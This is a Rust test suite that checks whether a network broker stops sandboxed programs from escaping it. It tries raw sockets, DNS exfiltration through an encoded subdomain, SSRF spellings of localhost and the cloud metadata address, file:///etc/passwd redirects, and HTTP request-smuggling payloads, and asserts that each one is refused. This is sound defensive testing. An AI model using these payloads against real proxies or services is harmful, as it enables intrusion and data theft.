//! Ways round the broker, and through it.

use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::CommandExt as _;
use std::process::Command;

use crate::servers::{Server, ok};
use crate::world::{Setup, World, reaching};

impl World {
    /// Says exactly this to the broker from inside a sandbox, and returns what it answers.
    async fn raw(&self, said: &str) -> String {
        let bytes = said.replace('\\', "\\\\").replace('\r', "\\r").replace('\n', "\\n").replace('%', "%%");
        self.out(&format!(
            "exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf \"$0\" >&3; timeout 5 cat <&3' '{bytes}'"
        ))
        .await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_046_no_socket_but_the_brokers_leads_anywhere() {
    let server = Server::new(|_| ok("hello"));
    let at = server.at();
    let world = World::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
    let script = r#"
import socket as s
def attempt(name, *how, to=None, send=False):
    try:
        with s.socket(*how) as one:
            one.settimeout(1)
            one.sendto(b'x', to) if send else one.connect(to)
            print('reached', name)
    except (OSError, AttributeError) as error:
        pass
attempt('tcp', s.AF_INET, s.SOCK_STREAM, to=('127.0.0.1', PORT))
attempt('tcp outside', s.AF_INET, s.SOCK_STREAM, to=('8.8.8.8', 443))
attempt('tcp6', s.AF_INET6, s.SOCK_STREAM, to=('::1', PORT))
attempt('udp', s.AF_INET, s.SOCK_DGRAM, to=('8.8.8.8', 53), send=True)
attempt('icmp', s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP, to=('8.8.8.8', 0), send=True)
attempt('ping', s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP, to=('8.8.8.8', 0), send=True)
attempt('netlink', s.AF_NETLINK, s.SOCK_RAW, to=(0, 0))
attempt('packet', s.AF_PACKET, s.SOCK_RAW, to=('lo', 0))
attempt('vsock', s.AF_VSOCK, s.SOCK_STREAM, to=(2, 1024))
attempt('abstract', s.AF_UNIX, s.SOCK_STREAM, to='\0/tmp/.X11-unix/X0')
print('done')
"#
    .replace("PORT", &server.port.to_string());
    let said = world.out(&format!("/usr/bin/python3 - <<'END'\n{script}END\ncurl -sS http://{at}/")).await;
    assert_eq!(said, "done\nhello");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_047_there_is_no_resolver_inside_and_the_broker_looks_up_only_what_is_allowed() {
    let policy = "
version: 1
rules:
  - { id: programs, effect: allow, match: { tool: shell.exec } }
  - { id: below, effect: allow, match: { tool: net.request, host: '*.allowed.invalid' } }
";
    let world = World::new(Setup { policy, ..Setup::default() }).await;
    let lines = "getent hosts example.com; /usr/bin/python3 -c 'import socket; socket.gethostbyname(\"example.com\")' 2>&1 | tail -n 1; \
                 ls /etc/resolv.conf 2>&1";
    let said = world.out(lines).await;
    assert!(said.contains("gaierror") && said.contains("No such file"), "{said}");
    // Denied before anyone looks it up.
    let said = world.out("curl -sSi http://hunter2.evil.invalid/").await;
    assert!(said.contains("403") && said.contains("x-regent-verdict: deny"), "{said}");
    // Allowed by its ending, but it is a message.
    let name = "onswg4tfoqqgs4zanb2w45dfoizcazdpnzsq";
    let said = world.out(&format!("curl -sSi http://{name}.allowed.invalid/")).await;
    assert!(said.contains("502") && said.contains("net.name_refused"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_048_private_addresses_are_refused_in_every_spelling() {
    let server = Server::new(|_| ok("hello"));
    let port = server.port;
    let world = World::new(Setup::default()).await;
    let hosts = [
        "127.0.0.1",
        "0x7f000001",
        "127.1",
        "2130706433",
        "0177.0.0.1",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "0.0.0.0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[2002:7f00:1::]",
        "[64:ff9b::7f00:1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "10.0.0.1",
    ];
    for host in hosts {
        for said in [
            world
                .raw(&format!(
                    "GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
                ))
                .await,
            world
                .raw(&format!(
                    "CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
                ))
                .await,
        ] {
            assert!(said.contains("net.address_refused"), "{host}: {said}");
        }
    }
    for target in [
        format!("http://good.test@127.0.0.1:{port}/"),
        format!("http://127.0.0.1:{port}@good.test/"),
        "file:///etc/passwd".to_owned(),
        "gopher://127.0.0.1:70/".to_owned(),
        "/".to_owned(),
    ] {
        let said = world
            .raw(&format!("GET {target} HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))
            .await;
        assert!(said.starts_with("HTTP/1.1 400"), "{target}: {said}");
    }
    assert_eq!(server.heard(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_050_each_hop_of_a_redirect_is_judged() {
    let inner = Server::new(|_| ok("inner"));
    let to = inner.at();
    let outer = Server::new(move |_| {
        format!("HTTP/1.1 302 Found\r\nlocation: http://{to}/private\r\ncontent-length: 0\r\n\r\n")
            .into_bytes()
    });
    let policy = format!(
        "
version: 1
rules:
  - {{ id: programs, effect: allow, match: {{ tool: shell.exec }} }}
  - {{ id: outer, effect: allow, match: {{ tool: net.request, port: {} }} }}
",
        outer.port
    );
    let network = reaching(&[&outer.at(), &inner.at()]);
    let world = World::new(Setup { policy: &policy, network, ..Setup::default() }).await;
    let said = world.out(&format!("curl -sSL http://{}/ -w ' %{{http_code}}'", outer.at())).await;
    assert!(said.ends_with(" 403") && said.contains("denied"), "{said}");
    assert_eq!((outer.heard().len(), inner.heard().len()), (1, 0));
    // Elsewhere than to the web a client may want to go, but the broker doesn't.
    let leads_out = Server::new(|_| {
        b"HTTP/1.1 302 Found\r\nlocation: file:///etc/passwd\r\ncontent-length: 0\r\n\r\n".to_vec()
    });
    let network = reaching(&[&leads_out.at()]);
    let world = World::new(Setup { network, ..Setup::default() }).await;
    let said = world.out(&format!("curl -sSL http://{}/ 2>&1", leads_out.at())).await;
    assert!(!said.contains("root:"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_051_what_two_readers_could_read_differently_is_refused() {
    let server = Server::new(|_| ok("hello"));
    let at = server.at();
    let world = World::new(Setup { network: reaching(&[&at]), ..Setup::default() }).await;
    let heads = [
        "Host: other.test\r\n".to_owned(),
        format!("Host: {at}\r\nHost: other.test\r\n"),
        format!("Host: {at}\r\nContent-Length: 3\r\nContent-Length: 4\r\n"),
        format!("Host: {at}\r\nTransfer-Encoding: chunked, identity\r\n"),
        format!("Host: {at}\r\nContent-Length: +3\r\n"),
        format!("Host: {at}\r\nbad header\r\n"),
        format!("Host: {at}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"),
    ];
    for head in heads {
        let said = world.raw(&format!("POST http://{at}/ HTTP/1.1\r\n{head}\r\n0\r\n\r\n")).await;
        // A connection that is cut while there is more to read may take the answer with it.
        let refused = ["HTTP/1.1 400", "HTTP/1.1 501"].iter().any(|line| said.starts_with(line));
        assert!(refused || said.is_empty(), "{head:?}: {said}");
    }
    let long = "x".repeat(100_000);
    let said = world.raw(&format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nX: {long}\r\n\r\n")).await;
    let refused = ["HTTP/1.1 431", "HTTP/1.1 400"].iter().any(|line| said.starts_with(line));
    assert!(refused || said.is_empty(), "{said}");
    assert_eq!(server.heard(), Vec::<String>::new());
    // Two ways to say how long it is: one is left when it leaves, and nothing after the end of the body.
    let said = world
        .raw(&format!(
            "POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n\
             1\r\nx\r\n0\r\n\r\nGET http://{at}/smuggled HTTP/1.1\r\nHost: {at}\r\n\r\n"
        ))
        .await;
    assert!(said.starts_with("HTTP/1.1 200") || said.is_empty(), "{said}");
    let heard = server.heard();
    assert!(heard.len() == 1 && !heard[0].to_lowercase().contains("content-length"), "{heard:?}");
    // The same without the trick passes, and what belongs to the connection stays behind.
    let said = world
        .raw(&format!(
            "GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nTE: trailers\r\n\
             Proxy-Authorization: Basic eDp5\r\nKeep-Alive: 5\r\n\r\n"
        ))
        .await;
    assert!(said.ends_with("hello"), "{said}");
    let heard = server.heard()[1].to_lowercase();
    for name in ["x-hop", "te:", "proxy-authorization", "keep-alive"] {
        assert!(!heard.contains(name), "{heard}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn adv_055_a_dead_broker_is_no_network() {
    let server = Server::new(|request| {
        if request.contains("/slow") {
            std::thread::sleep(std::time::Duration::from_secs(8));
        }
        ok("hello")
    });
    let at = server.at();
    let setup = Setup { network: reaching(&[&at]), serves_ms_max: Some(1_500), ..Setup::default() };
    let world = World::new(setup).await;
    // One before it dies, one that it dies with, and one after.
    let line = format!(
        "curl -sS http://{at}/; echo; curl -sS http://{at}/slow 2>&1; curl -sS --max-time 5 http://{at}/ 2>&1; true"
    );
    let said = world.out(&line).await;
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines[0], "hello");
    assert!(lines.len() == 3 && lines[1].starts_with("curl: (") && lines[2].starts_with("curl: ("), "{said}");
    // What was under way has its outcome.
    let recorded = world.recorded().await;
    assert!(recorded.iter().any(|(_, body)| body["status"]["failed"]["code"] == "net.gone"), "{recorded:#?}");
}

#[test]
fn an_ordinary_user_gets_the_same() {
    const NOBODY: u32 = 65_534;
    if !rustix::process::geteuid().is_root() {
        // Then this is what every other test has just shown.
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (anyone, copy) = (std::fs::Permissions::from_mode(0o755), folder.path().join("tests"));
    std::fs::set_permissions(folder.path(), anyone.clone()).unwrap();
    std::fs::copy(std::env::current_exe().unwrap(), &copy).unwrap();
    std::fs::set_permissions(&copy, anyone).unwrap();
    #[expect(clippy::disallowed_methods, reason = "this test runs itself again, as somebody else")]
    let output = Command::new(&copy)
        .args(["--skip", "an_ordinary_user_gets_the_same"])
        .uid(NOBODY)
        .gid(NOBODY)
        .current_dir("/")
        .env_clear()
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && text.contains("test result: ok. 2"), "{text}");
}
